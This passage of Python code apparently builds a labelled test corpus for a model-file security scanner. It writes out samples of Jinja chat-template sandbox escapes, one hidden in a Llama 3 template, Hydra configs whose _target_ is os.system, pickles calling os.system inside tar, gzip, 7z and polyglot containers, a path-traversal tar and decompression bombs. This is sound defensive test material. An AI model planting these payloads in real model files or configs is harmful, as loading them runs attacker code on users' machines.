            {%- for tool in tools %}{%- set tool = tool.function %}{{- '{"type": "function", "function": {' }}
                {%- for key, val in tool.items() if key != "return" %}
                    {%- if val is string %}{{- '"' + key + '": "' + val + '"' }}{%- else %}{{- '"' + key + '": ' + val|tojson }}{%- endif %}
                    {%- if not loop.last %}{{- ", " }}{%- endif %}
                {%- endfor %}
                {{- "}}" }}{%- if not loop.last %}{{- ", " }}{%- else %}{{- "]" }}{%- endif %}
            {%- endfor %}
            {{- "[/AVAILABLE_TOOLS]" }}
        {%- endif %}
        {{- "[INST] " + message["content"] + "[/INST]" }}
    {%- elif message.tool_calls is defined and message.tool_calls is not none %}
        {{- "[TOOL_CALLS] [" }}
        {%- for tool_call in message.tool_calls %}
            {%- set out = tool_call.function|tojson %}{{- out[:-1] }}
            {%- if not tool_call.id is defined or tool_call.id|length != 9 %}{{- raise_exception("Tool call IDs should be alphanumeric strings with length 9!") }}{%- endif %}
            {{- ', "id": "' + tool_call.id + '"}' }}
            {%- if not loop.last %}{{- ", " }}{%- else %}{{- "]" + eos_token }}{%- endif %}
        {%- endfor %}
    {%- elif message["role"] == "assistant" %}{{- " " + message["content"]|trim + eos_token}}
    {%- else %}{{- raise_exception("Only user and assistant roles are supported, with the exception of an initial optional system message!") }}
    {%- endif %}
{%- endfor %}"""

# One template per sandbox-escape technique (SSTI payloads as published against Jinja).
HOSTILE_TEMPLATES = [
    ("mro_subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "`__class__`/`__mro__`/`__subclasses__` walk"),
    ("cycler_globals", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "`cycler.__init__.__globals__`"),
    ("joiner_globals", "{{ joiner.__init__.__globals__['os'].popen('id').read() }}", "`joiner.__init__.__globals__`"),
    ("namespace_globals", "{{ namespace.__init__.__globals__.os.system('id') }}", "`namespace.__init__.__globals__`"),
    ("lipsum_globals", "{{ lipsum.__globals__['os'].popen('id').read() }}", "`lipsum.__globals__`"),
    ("builtins", "{{ lipsum.__globals__.__builtins__.__import__('os').system('id') }}", "`__builtins__` and `__import__`"),
    ("template_reference", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
     "`self._TemplateReference__context`"),
    ("attr_filter", "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}", "attribute chain through `|attr`"),
    ("subscript_dunder", "{{ ()['__class__']['__base__'] }}", "dunder through a `[\"__x__\"]` subscript"),
    ("concat_dunder", "{{ ()['__cla' ~ 'ss__']['__ba' + 'se__'] }}", "dunder built with `~` and `+`"),
    ("escaped_dunder", '{{ ()["\\x5f\\x5fclass\\x5f\\x5f"] }}', "dunder spelled with `\\x5f` escapes"),
    ("computed_attr", '{{ ()|attr(["_"*2,"class","_"*2]|join) }}', "`|attr` of a name computed with `*` and `|join`"),
    ("computed_subscript", '{{ ()[("_"*2)~"class"~("_"*2)] }}', "subscript key computed with `*` and `~`"),
    ("format_string", "{{ '{0.__class__.__init__.__globals__}'.format(lipsum) }}", "attribute access inside a format string"),
    ("hidden_in_llama3", LLAMA3_TEMPLATE + "{% if false %}{{ cycler.__init__.__globals__.os.popen('id') }}{% endif %}",
     "a Llama 3 template with a payload in a never-taken branch"),
]


def tokenizer_config(template, **extra):
    value = {"add_bos_token": True, "bos_token": "<s>", "eos_token": "</s>", "chat_template": template,
             "model_max_length": 8192, "tokenizer_class": "PreTrainedTokenizerFast"}
    value.update(extra)
    return json.dumps(value, indent=2, ensure_ascii=False).encode()


def gguf_with_template(template, key="tokenizer.chat_template"):
    return gguf(kvs=[("general.architecture", 8, gguf_str("llama")), ("general.alignment", 4, u32(32)),
                     (key, 8, gguf_str(template))])


def chat_templates(c):
    families = [("llama3", LLAMA3_TEMPLATE), ("llama31_tools", LLAMA31_TOOLS_TEMPLATE), ("qwen2", QWEN2_TEMPLATE),
                ("qwen3", QWEN3_TEMPLATE), ("gemma", GEMMA_TEMPLATE), ("gemma3", GEMMA3_TEMPLATE),
                ("mistral", MISTRAL_TEMPLATE), ("mistral_tools", MISTRAL_TOOLS_TEMPLATE)]
    for name, template in families:
        c.add(f"ok_chat_{name}_tokenizer_config.json", tokenizer_config(template), "safe",
              f"tokenizer_config.json chat_template of the {name} family (written from its published shape)",
              "chat template: benign")
    c.add("ok_chat_list_tokenizer_config.json",
          tokenizer_config([{"name": "default", "template": QWEN2_TEMPLATE}, {"name": "tool_use", "template": MISTRAL_TOOLS_TEMPLATE}]),
          "safe", "chat_template as a list of {name, template} objects", "chat template: benign")
    c.add("ok_chat_llama3.gguf", gguf_with_template(LLAMA3_TEMPLATE), "safe",
          "GGUF with a Llama 3 tokenizer.chat_template", "chat template: benign, format: GGUF")
    c.add("ok_chat_raw_and_comment.jinja",
          b"{# ''.__class__ is only a comment #}{% raw %}{{ ''.__class__ }}{% endraw %}" + QWEN2_TEMPLATE.encode(), "safe",
          "chat_template.jinja whose dunders are in a comment and a raw block (never evaluated)", "chat template: benign")
    for name, template, technique in HOSTILE_TEMPLATES:
        c.add(f"mal_chat_{name}_tokenizer_config.json", tokenizer_config(template), "unsafe",
              f"tokenizer_config.json chat_template: {technique}", "chat template: SSTI sandbox escape")
    c.add("mal_chat_list_tokenizer_config.json",
          tokenizer_config([{"name": "default", "template": LLAMA3_TEMPLATE},
                            {"name": "tool_use", "template": HOSTILE_TEMPLATES[1][1]}]), "unsafe",
          "chat_template list whose `tool_use` template escapes the sandbox", "chat template: SSTI sandbox escape")
    c.add("mal_chat_template.gguf", gguf_with_template(HOSTILE_TEMPLATES[1][1]), "unsafe",
          "GGUF tokenizer.chat_template with `cycler.__init__.__globals__` (CVE-2024-34359 shape)",
          "chat template: SSTI, format: GGUF")
    c.add("mal_chat_named_template.gguf", gguf_with_template(HOSTILE_TEMPLATES[4][1], key="tokenizer.chat_template.tool_use"),
          "unsafe", "GGUF tokenizer.chat_template.tool_use with `lipsum.__globals__`", "chat template: SSTI, format: GGUF")
    c.add("mal_chat_template.jinja", HOSTILE_TEMPLATES[0][1].encode(), "unsafe",
          "chat_template.jinja with a `__subclasses__` walk", "chat template: SSTI")
    c.add("bad_chat_unterminated_tokenizer_config.json", tokenizer_config("{{ messages[0]['content'] "), "malformed",
          "chat_template with an unterminated `{{`: a renderer and the scanner could read it differently",
          "chat template: unreadable")
    c.add("bad_chat_template_type_tokenizer_config.json", tokenizer_config(42), "malformed",
          "chat_template that is neither a string nor a list of templates", "chat template: unreadable")
    c.add("bad_chat_duplicate_key_tokenizer_config.json",
          b'{"chat_template": "{{ messages }}", "chat_template": "{{ lipsum.__globals__ }}"}', "malformed",
          "two chat_template keys: loaders keep different ones", "chat template: parser differential")


NEMO_CONFIG = b"""# model_config.yaml of a .nemo (ASR, written from NeMo's published shape)
sample_rate: 16000
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
tokenizer:
  dir: null
  type: bpe
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: 16000
  normalize: per_feature
  window_size: 0.025
spec_augment:
  _target_: 'nemo.collections.asr.modules.SpectrogramAugmentation'
  freq_masks: 2
encoder:
  _target_: "nemo.collections.asr.modules.ConformerEncoder"   # the encoder
  feat_in: 80
  n_layers: 17
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  num_classes: 1024
optim:
  name: adamw
  lr: 2.0
  sched: {_target_: torch.optim.lr_scheduler.CosineAnnealingLR, T_max: 1000}
layers:
  - _target_: torch.nn.Linear
    in_features: 80
  - {_target_: torch.nn.ReLU}
"""


def code_in_configs(c):
    c.add("ok_nemo_model_config.yaml", NEMO_CONFIG, "safe",
          "NeMo model_config.yaml: _target_ of NeMo modules and torch classes, block, flow, quoted, in a sequence",
          "config: Hydra/NeMo _target_ (benign)")
    hostile = [
        ("block", b"trainer:\n  _target_: os.system\n  command: id\n", "block-style `_target_: os.system`"),
        ("flow", b"callbacks: [{_target_: subprocess.Popen, args: [id]}]\n", "flow-style `_target_: subprocess.Popen`"),
        ("sequence", b"layers:\n  - _target_: builtins.eval\n    _args_: ['1']\n", "`- _target_: builtins.eval` in a sequence"),
        ("quoted", b"model:\n  \"_target_\": 'posix.system'\n", "quoted key and value"),
        ("escaped_key", b"model:\n  \"\\x5ftarget_\": os.system\n", "key spelled `\"\\x5ftarget_\"` (an escape YAML decodes)"),
        ("hydra_call", b"loader:\n  _target_: hydra.utils.get_method\n  path: os.system\n", "`hydra.utils.get_method` resolves any name"),
        ("nemo_dotted", b"encoder:\n  _target_: nemo.collections.asr.modules.os.system\n",
         "a NeMo-looking path that ends in `os.system`"),
    ]
    for name, text, technique in hostile:
        c.add(f"mal_hydra_target_{name}.yaml", text, "unsafe", f"Hydra config: {technique}", "config: Hydra/NeMo _target_")
    c.add("mal_hydra_target.json", json.dumps({"model": {"_target_": "os.system", "command": "id"}}).encode(), "unsafe",
          "a JSON config (Hydra reads JSON as YAML) whose `_target_` is os.system", "config: Hydra/NeMo _target_")
    c.add("mal_nemo_toplevel_target.yaml", b"target: runpy.run_path\nsample_rate: 16000\n", "unsafe",
          "a .nemo model_config.yaml whose top-level `target` (imported by NeMo's restore_from) is runpy.run_path",
          "config: Hydra/NeMo _target_ (NeMo target)")
    c.add("mal_hydra_target_utf16.yaml", "model:\n  _target_: os.system\n".encode("utf-16"), "unsafe",
          "a UTF-16 (with BOM) Hydra config: PyYAML decodes it, so the scanner must too", "config: Hydra/NeMo _target_")
    c.add("mal_yaml_python_tag.yaml", b"model: !!python/object/apply:os.system ['id']\n", "unsafe",
          "a PyYAML `!!python/object/apply` tag", "config: YAML python tag")
    c.add("sus_hydra_target_unknown.yaml", b"model:\n  _target_: acme_models.layers.Dense\n  units: 4\n", "suspicious",
          "a `_target_` class neither known safe nor dangerous", "config: Hydra/NeMo _target_ (unknown class)")
    unreadable = [
        ("next_line", b"model:\n  _target_:\n    os.system\n", "the value on the next line"),
        ("interpolation", b"model:\n  _target_: ${oc.env:TARGET}\n", "an interpolation"),
        ("anchor", b"model:\n  _target_: &t os.system\n", "an anchor"),
        ("alias", b"base: &b os.system\nmodel:\n  _target_: *b\n", "an alias"),
        ("complex_key", b"model:\n  ? _target_\n  : os.system\n", "a complex `? ` key"),
        ("block_scalar", b"model:\n  _target_: |\n    os.system\n", "a block scalar"),
    ]
    for name, text, technique in unreadable:
        c.add(f"bad_hydra_target_{name}.yaml", text, "malformed",
              f"`_target_` with {technique}: the scanner cannot read it with certainty", "config: Hydra/NeMo _target_ (unreadable)")
    c.add("sus_remote_code_config.json",
          json.dumps({"architectures": ["AcmeForCausalLM"], "auto_map": {
              "AutoConfig": "configuration_acme.AcmeConfig", "AutoModelForCausalLM": "modeling_acme.AcmeForCausalLM"},
              "model_type": "acme"}, indent=2).encode(), "suspicious",
          "config.json with auto_map: transformers imports the repo's Python with trust_remote_code",
          "remote code: auto_map")
    c.add("sus_remote_code_tokenizer_config.json",
          tokenizer_config(QWEN2_TEMPLATE, auto_map={"AutoTokenizer": ["tokenization_acme.AcmeTokenizer", None]}),
          "suspicious", "tokenizer_config.json with auto_map (and a benign chat template)", "remote code: auto_map")
    c.add("sus_modeling_acme.py", b"import torch\n\n\nclass AcmeForCausalLM(torch.nn.Module):\n    pass\n", "suspicious",
          "custom modelling code (*.py) in the repository", "remote code: *.py")


def tf_node(name, op, inputs=(), attr=b""):
    out = pb_field(1, 2, name.encode()) + pb_field(2, 2, op.encode())
    for i in inputs:
        out += pb_field(3, 2, i.encode())
    if attr:
        out += pb_field(5, 2, attr)
    return out


def tf_attr(key, tensor_bytes):
    # map<string, AttrValue> entry: key (1), value (2) = AttrValue{tensor (8) = TensorProto{dtype 1, content 4}}
    return pb_field(1, 2, key.encode()) + pb_field(2, 2, pb_field(8, 2, pb_field(1, 0, 1) + pb_field(4, 2, tensor_bytes)))


def tf_graph(ops, functions=()):
    """GraphDef{node..., library{function{signature{name}, node_def...}}, versions{producer}}."""
    out = b""
    for i, op in enumerate(ops):
        attr = tf_attr("value", b"\x00" * 64) if op == "Const" else b""
        out += pb_field(1, 2, tf_node(f"n{i}", op, [f"n{i - 1}"] if i else [], attr))
    if functions:
        library = b""
        for fname, fops in functions:
            fn = pb_field(1, 2, pb_field(1, 2, fname.encode()))
            for j, op in enumerate(fops):
                fn += pb_field(3, 2, tf_node(f"{fname}_n{j}", op))
            library += pb_field(1, 2, fn)
        out += pb_field(2, 2, library)
    return out + pb_field(4, 2, pb_field(1, 0, 1994))


def saved_model(graph):
    """SavedModel{saved_model_schema_version 1, meta_graphs{meta_info_def{tags serve}, graph_def, signature_def}}."""
    meta = (pb_field(1, 2, pb_field(4, 2, b"serve")) + pb_field(2, 2, graph)
            + pb_field(5, 2, pb_field(1, 2, b"serving_default") + pb_field(2, 2, pb_field(3, 2, b"tensorflow/serving/predict"))))
    return pb_field(1, 0, 1) + pb_field(2, 2, meta)


def sentencepiece_model(pieces):
    out = b""
    for piece, score, kind in pieces:
        out += pb_field(1, 2, pb_field(1, 2, piece.encode()) + pb_varint(2 << 3 | 5) + struct.pack("<f", score)
                        + pb_field(3, 0, kind))
    trainer = pb_field(1, 2, b"corpus.txt") + pb_field(3, 0, 2) + pb_field(4, 0, len(pieces))
    normalizer = pb_field(1, 2, b"nmt_nfkc") + pb_field(3, 0, 1)
    return out + pb_field(2, 2, trainer) + pb_field(3, 2, normalizer)


def tensorflow(c):
    benign_ops = ["Placeholder", "Const", "MatMul", "Const", "BiasAdd", "Relu", "Identity"]
    saver = [("save_fn", ["Const", "SaveV2", "RestoreV2", "Identity"])]
    c.add("ok_saved_model.pb", saved_model(tf_graph(benign_ops, saver)), "safe",
          "TF SavedModel: a dense layer, plus SaveV2/RestoreV2 in a library function", "TF SavedModel")
    c.add("ok_frozen_graph.pb", tf_graph(benign_ops), "safe", "TF frozen GraphDef of a dense layer", "TF GraphDef")
    c.add("mal_saved_model_pyfunc.pb", saved_model(tf_graph(benign_ops[:3] + ["PyFunc", "Identity"])), "unsafe",
          "TF SavedModel with a PyFunc op in the graph", "TF SavedModel: PyFunc")
    c.add("mal_saved_model_eager_pyfunc_in_function.pb",
          saved_model(tf_graph(benign_ops, [("__inference_call_42", ["Placeholder", "EagerPyFunc", "Identity"])])), "unsafe",
          "TF SavedModel whose library function holds an EagerPyFunc op", "TF SavedModel: EagerPyFunc")
    c.add("mal_saved_model_readfile.pb", saved_model(tf_graph(["Const", "ReadFile", "Identity"])), "unsafe",
          "TF SavedModel reading a file with ReadFile", "TF SavedModel: ReadFile (modelscan)")
    c.add("mal_frozen_graph_writefile.pb", tf_graph(["Const", "Const", "WriteFile"]), "unsafe",
          "TF frozen GraphDef with WriteFile", "TF GraphDef: WriteFile")
    c.add("mal_frozen_graph_pyfunc_stateless.pb", tf_graph(["Placeholder", "PyFuncStateless"]), "unsafe",
          "TF frozen GraphDef with PyFuncStateless", "TF GraphDef: PyFuncStateless")
    lambda_json = json.dumps({"class_name": "Lambda", "config": LAMBDA["config"]}).encode()
    user_object = pb_field(7, 2, pb_field(4, 2, pb_field(1, 2, b"_tf_keras_layer") + pb_field(4, 2, lambda_json)))
    c.add("mal_saved_model_keras_lambda.pb", pb_field(1, 0, 1) + pb_field(2, 2, pb_field(2, 2, tf_graph(benign_ops)) + user_object),
          "unsafe",
          "Keras SavedModel whose object graph holds a Lambda layer's config (bytecode)", "TF SavedModel: Keras Lambda (modelscan)")
    c.add("mal_keras_metadata.pb", pb_field(1, 2, pb_field(2, 0, 1) + pb_field(3, 2, b"root.layer-1") + pb_field(4, 2, b"_tf_keras_layer")
                                            + pb_field(5, 2, lambda_json)), "unsafe",
          "keras_metadata.pb (not otherwise recognised) naming a Lambda layer", "TF SavedModel: Keras Lambda (keras_metadata.pb)")
    good = saved_model(tf_graph(benign_ops, saver))
    c.add("bad_saved_model_truncated.pb", good[: len(good) - 20], "malformed",
          "TF SavedModel cut inside its graph", "TF SavedModel (truncated)")
    c.add("ok_tokenizer.model", sentencepiece_model([("<unk>", 0.0, 2), ("<s>", 0.0, 3), ("</s>", 0.0, 3),
                                                    ("\u2581the", -3.5, 1), ("\u2581a", -4.0, 1), ("ing", -4.2, 1)]),
          "safe", "sentencepiece tokenizer.model (a protobuf of pieces, trainer and normalizer specs)", "sentencepiece")


def unrecognised(c):
    blob = bytes((i * 131 + 7) & 0xFF for i in range(4096))
    c.add("unsupported_vocab.dat", blob, "unsupported",
          "binary content in no format the scanner knows: not checked, so not `safe`", "unrecognised content")
    c.add("unsupported_legacy_ggml.bin", b"tjgg" + u32(3) + u32(32000) + u32(4096) + blob[:1024], "unsupported",
          "a legacy GGML (ggjt) file named *.bin: recognised by its magic, not validated", "unrecognised content (legacy GGML)")
    c.add("unsupported_font.ttf", b"\x00\x01\x00\x00\x00\x0c\x00\x80\x00\x03" + blob[:512], "unsupported",
          "a TrueType font header: not a model format", "unrecognised content")
    for suffix in ["bin", "pt", "ckpt", "pkl", "joblib", "nemo", "h5", "keras"]:
        c.add(f"bad_unrecognised_weights.{suffix}", blob, "malformed",
              f"unrecognised content named *.{suffix}: loaders open it as weights, so it must not pass as unchecked",
              "unrecognised content under a weights name")
def containers_and_wrappers(c):
    """Containers real loaders open (legacy torch tar, .nemo, joblib ZF/LZMA, 7z) and the
    compressed wrappers around pickles, with their bombs and the tar forms readers disagree on."""
    mal = SYSTEM
    payload = call_expr("os", "system", P.bu("id"))
    # Legacy torch.save tar: torch.load(weights_only=False) reads it through legacy_load.
    c.add("mal_torch_legacy_tar_pickle.tar", legacy_torch_tar(main=mal), "unsafe",
          "legacy torch tar whose `pickle` member calls os.system", "container: legacy torch tar (legacy_load)")
    c.add("mal_torch_legacy_tar_storages.tar", legacy_torch_tar(storages=legacy_storages(args_payload=payload)), "unsafe",
          "legacy torch tar: a storage record pickle inside `storages` (between raw storage bytes) calls os.system",
          "container: legacy torch tar `storages`")
    c.add("mal_torch_legacy_tar_views.tar", legacy_torch_tar(storages=legacy_storages(views=mal)), "unsafe",
          "legacy torch tar: the storage-views pickle after the last storage's raw bytes calls os.system",
          "container: legacy torch tar `storages`")
    c.add("mal_torch_legacy_tar_tensors.tar", legacy_torch_tar(tensors=legacy_tensors(payload=payload)), "unsafe",
          "legacy torch tar: a tensor record pickle inside `tensors` calls os.system", "container: legacy torch tar `tensors`")
    # pax path override: the ustar name says notes.txt, tarfile names the member `pickle`.
    sys_info = pickle.dumps({"protocol_version": 1001}, protocol=2)
    c.add("mal_torch_legacy_tar_pax_path.tar", make_tar([
        tar_block("sys_info", sys_info), pax_block([("path", b"pickle")]),
        tar_block("notes.txt", call("os", "system", proto=0)),
        tar_block("tensors", legacy_tensors()), tar_block("storages", legacy_storages())]), "unsafe",
        "legacy torch tar whose `pickle` is named only by a pax path record (the ustar name is notes.txt)",
        "container: legacy torch tar (pax path)")
    # .nemo: a tar NeMo unpacks with tarfile (plain, or gzip'd for older checkpoints).
    config = b"name: asr\nmodel:\n  sample_rate: 16000\n"
    bad_ckpt = make_zip(torch_zip(torch_state_dict(payload=payload)))
    c.add("mal_nemo.nemo", python_tar([("./model_config.yaml", config), ("./model_weights.ckpt", bad_ckpt)]), "unsafe",
          ".nemo tar whose model_weights.ckpt is a torch zip calling os.system", "container: nemo")
    c.add("mal_nemo_gz.nemo", python_tar([("./model_config.yaml", config), ("./model_weights.ckpt", bad_ckpt)], compress="gz"),
          "unsafe", "gzip'd .nemo tar (NeMo's `r:gz` fallback) with a malicious model_weights.ckpt", "container: nemo (gzip)")
    long_dir = "./" + "tokenizer_" * 12 + "/"
    c.add("mal_nemo_long_name.nemo", python_tar([("./model_config.yaml", config), (long_dir + "vocab.pkl", mal)],
                                                 fmt=tarfile.GNU_FORMAT), "unsafe",
          ".nemo tar (GNU format) with a pickle under a member name longer than 100 bytes (a GNU long-name header)",
          "container: nemo (GNU long name)")
    c.add("mal_tar_traversal.tar", make_tar([tar_block("../../home/user/.bashrc", b"echo pwned\n")]), "unsafe",
          "tar member named ../../home/user/.bashrc: unpacking writes outside the target directory",
          "container: tar path traversal (CVE-2007-4559)")
    # joblib's old ZF format: the length is read with int(x, 16).
    for stem, text, space in (("hex", None, False), ("bare", "1f", False), ("upper_prefix", "0X1f", False),
                              ("leading_space", " 0x1f", False), ("underscore", "0x_1_f", False), ("python2", None, True)):
        c.add(f"mal_joblib_zf_{stem}.joblib", joblib_zf(mal, text, space), "unsafe",
              f"joblib ZF file, length field {text or hex(len(mal))!r}{' plus a Python 2 space' if space else ''}, holding os.system",
              "container: joblib ZF (int(x, 16))")
    c.add("mal_joblib_lzma.joblib", lzma.compress(mal, format=lzma.FORMAT_ALONE), "unsafe",
          "raw LZMA-alone stream (joblib's `5D 00` prefix) holding os.system", "container: joblib lzma")
    c.add("mal_joblib_xz.joblib", lzma.compress(mal, format=lzma.FORMAT_XZ), "unsafe",
          "xz-compressed joblib holding os.system", "container: joblib xz")
    c.add("mal_7z_pickle.7z", seven_zip([("readme.txt", b"hello\n"), ("model.bin", mal)]), "unsafe",
          "7z archive with a pickle under a non-pickle name (nullifAI)", "container: 7z (nullifAI)")
    c.add("mal_gzip_zip.pt.gz", gzip.compress(make_zip(torch_zip(mal)), mtime=0), "unsafe",
          "gzip around a torch zip whose data.pkl calls os.system", "container: gzip around a zip")
    c.add("mal_bz2_tar.tar.bz2", bz2.compress(legacy_torch_tar(main=mal)), "unsafe",
          "bz2 around a legacy torch tar", "container: bz2 around a tar")
    c.add("mal_gzip_two_members.pkl.gz", gzip.compress(mal[:12], mtime=0) + gzip.compress(mal[12:], mtime=0), "unsafe",
          "os.system pickle split across two gzip members (gzip.open reads both as one stream)", "container: gzip members")
    # Polyglots: two loaders read two different things from one file.
    c.add("mal_zip_tar_polyglot.nemo", zip_tar_polyglot(pickle.dumps({"a": 1}, protocol=2), mal), "unsafe",
          "a benign zip to torch and a tar to NeMo's tarfile whose member calls os.system", "container: zip/tar polyglot")
    c.add("mal_gzip_tar_polyglot.joblib", gzip_tar_polyglot(gzip.compress(mal, mtime=0)), "unsafe",
          "a tar of DEFLATE bytes to tarfile (torch tries it first) and a gzip'd os.system pickle to joblib",
          "container: gzip/tar polyglot")
    # Benign versions stay safe.
    c.add("ok_numpy_pickle.pkl.gz", gzip.compress(numpy_pickle(), mtime=0), "safe",
          "gzip'd pickle of a numpy array", "container: gzip (benign)")
    c.add("ok_numpy_pickle.pkl.bz2", bz2.compress(numpy_pickle()), "safe", "bz2'd pickle of a numpy array", "container: bz2 (benign)")
    c.add("ok_numpy_pickle.joblib.lzma", lzma.compress(numpy_pickle(), format=lzma.FORMAT_ALONE), "safe",
          "LZMA-alone pickle of a numpy array", "container: joblib lzma (benign)")
    c.add("ok_joblib_zf.joblib", joblib_zf(numpy_pickle(), " 0x%x" % len(numpy_pickle())), "safe",
          "joblib ZF file of a numpy array pickle", "container: joblib ZF (benign)")
    c.add("ok_torch_legacy.tar", legacy_torch_tar(), "safe", "legacy torch tar of plain tensors",
          "container: legacy torch tar (benign)")
    ok_ckpt = make_zip(torch_zip(torch_state_dict()))
    c.add("ok_model.nemo", python_tar([("./model_config.yaml", config), ("./model_weights.ckpt", ok_ckpt)]), "safe",
          ".nemo tar with a config and a benign torch zip", "container: nemo (benign)")
    c.add("ok_model_gnu.nemo", python_tar([("./model_config.yaml", config), (long_dir + "model_weights.ckpt", ok_ckpt)],
                                         fmt=tarfile.GNU_FORMAT), "safe",
          ".nemo tar in GNU format with a long member name", "container: nemo (benign, GNU long name)")
    c.add("ok_7z.7z", seven_zip([("weights.pkl", numpy_pickle())]), "safe", "7z with a numpy array pickle", "container: 7z (benign)")
    # Members are judged by name as files are: NeMo's restore_from torch.loads model_weights.ckpt
    # from the tar, and code or templates inside an archive are what they would be beside it.
    noise = bytes((i * 131 + 7) & 0xFF for i in range(4096))
    c.add("bad_nemo_unrecognised_ckpt.nemo", python_tar([("./model_config.yaml", config), ("./model_weights.ckpt", noise)]),
          "malformed", ".nemo tar whose model_weights.ckpt (torch.load'ed by restore_from) is in no format modelpin knows",
          "container: nemo member judged by name")
    c.add("sus_nemo_python.nemo", python_tar([("./model_config.yaml", config), ("./model_weights.ckpt", ok_ckpt),
                                              ("./modeling_acme.py", b"import os\n")]),
          "suspicious", ".nemo tar carrying Python source (*.py member)", "container: nemo member judged by name (remote code)")
    c.add("bad_zip_unrecognised_bin.zip", make_zip([{"name": "weights/pytorch_model.bin", "data": noise}]), "malformed",
          "zip whose pytorch_model.bin member is in no format modelpin knows", "container: zip member judged by name")
    c.add("sus_zip_python.zip", make_zip([{"name": "code/modeling_acme.py", "data": b"import os\n"}]), "suspicious",
          "zip carrying Python source (*.py member)", "container: zip member judged by name (remote code)")
    c.add("mal_zip_chat_template.zip", make_zip([{"name": "chat_template.jinja",
                                                  "data": b"{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}\n"}]),
          "unsafe", "zip with a *.jinja chat template member that escapes the Jinja sandbox",
          "container: zip member judged by name (chat template)")
    # Bombs: the ratio cap and the absolute cap.
    c.add("bomb_gzip_ratio.pkl.gz", gzip.compress(b"\0" * (20 << 20), compresslevel=9, mtime=0), "malformed",
          "gzip of 20 MiB of zeros (about 1030:1)", "container: decompression bomb (ratio)")
    c.add("bomb_bz2_ratio.bz2", bz2.compress(b"\0" * (20 << 20), 9), "malformed",
          "bz2 of 20 MiB of zeros (hundreds of thousands to one)", "container: decompression bomb (ratio)")
    c.add("bomb_xz_ratio.xz", lzma.compress(b"\0" * (20 << 20), preset=0), "malformed",
          "xz of 20 MiB of zeros", "container: decompression bomb (ratio)")
    c.add("bomb_gzip_size.gz", size_bomb(), "malformed",
          "gzip expanding past 256 MiB at about 690:1 (under the ratio cap)", "container: decompression bomb (size)")
    # Tars that Python's tarfile reads differently from other readers: refused.
    ok_tar = legacy_torch_tar()
    c.add("bad_tar_after_end.tar", ok_tar + tar_block("pickle", mal), "malformed",
          "a member after the end-of-archive block (tarfile stops, GNU tar -i reads it)", "container: tar divergence")
    bad_sum = bytearray(make_tar([tar_block("sys_info", b"x"), tar_block("pickle", mal)]))
    bad_sum[1024 + 148] ^= 1
    c.add("bad_tar_checksum_second.tar", bytes(bad_sum), "malformed",
          "second header's checksum is wrong (tarfile silently ends the archive there)", "container: tar divergence")
    c.add("bad_tar_size_plus.tar", make_tar([tar_block("pickle", mal, size_field=b"+%010o\0" % len(mal))]), "malformed",
          "size field `+00000000…` that only Python's int() reads", "container: tar divergence (nti)")
    c.add("bad_tar_pax_size_underscore.tar", make_tar([pax_block([("size", b"1_0")]), tar_block("data.bin", b"\x00" * 10)]),
          "malformed", "pax size `1_0` (tarfile: int() reads 10; others reject)", "container: tar divergence (pax)")
    c.add("bad_tar_symlink.tar", make_tar([tar_block("pickle", typeflag=b"2", linkname=b"/etc/passwd")]), "malformed",
          "tar member `pickle` that is a symbolic link", "container: tar link")
    c.add("bad_tar_truncated.tar", ok_tar[:2048 + 100], "malformed", "legacy torch tar cut inside a member",
          "container: tar truncated")
    c.add("bad_7z_truncated.7z", seven_zip([("model.bin", mal)])[:40], "malformed", "7z cut before its header",
          "container: 7z truncated")
    c.add("bad_lzma_dictionary.joblib", b"\x5d\x00\x00\x00\xc0" + b"\xff" * 8 + b"\x00" * 16, "malformed",
          "LZMA-alone header asking for a 3 GiB dictionary", "container: joblib lzma")
    c.add("ok_binary_5d00.raw", b"\x5d\x00\x12\x34\x56" + bytes(range(256)) * 4, "unsupported",
          "raw bytes that start 5D 00 but fail Python lzma's header check (not LZMA to joblib)", "container: joblib lzma (inverse)")


def thrift_binary(text):
    data = text.encode()
    return pb_varint(len(data)) + data


def parquet(metadata=()):
    """A valid Parquet file with no columns and no rows: PAR1, a FileMetaData footer in thrift's
    compact protocol (version 1, the root schema element, num_rows 0, no row groups, and
    key-value metadata such as pyarrow's base64 `ARROW:schema`), its length, PAR1."""
    footer = b"\x15\x02" + b"\x19\x1c\x48" + thrift_binary("schema") + b"\x15\x00\x00" + b"\x16\x00" + b"\x19\x0c"
    if metadata:
        footer += b"\x19" + bytes([len(metadata) << 4 | 0x0C])
        for key, value in metadata:
            footer += b"\x18" + thrift_binary(key) + b"\x18" + thrift_binary(value) + b"\x00"
    footer += b"\x00"
    return b"PAR1" + footer + u32(len(footer)) + b"PAR1"


def arrow_message(metadata):
    metadata += b"\x00" * (-len(metadata) % 8)
    return b"\xff\xff\xff\xff" + u32(len(metadata)) + metadata


ARROW_EOS = b"\xff\xff\xff\xff\x00\x00\x00\x00"


def arrow_stream(schema=b"schema: text: string"):
    return arrow_message(schema) + ARROW_EOS


def arrow_file(schema=b"schema: text: string", footer=b"footer: schema, record batch blocks"):
    return b"ARROW1\x00\x00" + arrow_stream(schema) + footer + u32(len(footer)) + b"ARROW1"


def datasets(c):
    """A dataset repository's files: columnar data is safe unless its schema declares the pickled
    `arrow.py_extension_type` (CVE-2023-47248); text is text; a pickle stays a pickle."""
    extension = b"ARROW:extension:name\x00arrow.py_extension_type\x00ARROW:extension:metadata\x00" + call("os", "system")
    c.add("ok_data_empty.parquet", parquet(), "safe", "Parquet with an empty schema", "datasets: parquet")
    c.add("ok_data_pandas.parquet", parquet([("pandas", '{"columns": []}'), ("ARROW:schema", base64.b64encode(b"schema").decode())]),
          "safe", "Parquet with pandas and Arrow schema metadata", "datasets: parquet")
    c.add("ok_data_stream.arrow", arrow_stream(), "safe", "Arrow IPC stream (`datasets` shards)", "datasets: arrow")
    c.add("ok_data_file.feather", arrow_file(), "safe", "Arrow IPC file / Feather v2", "datasets: arrow")
    c.add("ok_data_rows.jsonl", b'{"text": "hello"}\n{"text": "world"}\n', "safe", "JSON lines", "datasets: text")
    c.add("ok_data_rows.csv", b"text,label\nhello,1\n", "safe", "CSV", "datasets: text")
    for shift in range(3):
